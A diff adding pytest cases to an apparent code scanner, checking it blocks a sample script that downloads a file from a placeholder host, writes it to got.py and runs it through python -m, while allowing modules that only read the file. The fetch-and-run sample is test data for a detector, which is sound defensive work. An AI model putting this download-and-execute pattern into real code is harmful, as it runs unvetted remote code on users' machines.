@@ -47,3 +47,19 @@ def test_a_text_that_stands_there_is_no_block(name: str, way: str) -> None:
 @pytest.mark.parametrize("way", ways("javascript_sources.txt"))
 def test_whoever_says_it_is_known(way: str) -> None:
     assert inspected(started("a.mjs", way, "")).verdict == "block"
+
+
+MODULES = {  # what is written and then named to `python -m`, and whether that runs it
+    "-m', 'got": True,
+    "-m', 'pytest', 'got.py": True,
+    "-m', 'json.tool', 'got.py": False,
+    "-m', 'sekisho', 'check', '--psbt', 'got.py": False,
+}
+
+
+@pytest.mark.parametrize(("words", "runs"), MODULES.items())
+def test_a_module_that_is_started_may_run_a_file_or_read_it(words: str, runs: bool) -> None:
+    begins = "import requests\nimport subprocess\nimport sys\n"
+    writes = "open('got.py', 'w').write(requests.get('https://a.invalid').text)\n"
+    found = inspected({"a.py": f"{begins}{writes}subprocess.run([sys.executable, '{words}'])\n"})
+    assert (found.verdict == "block") is runs
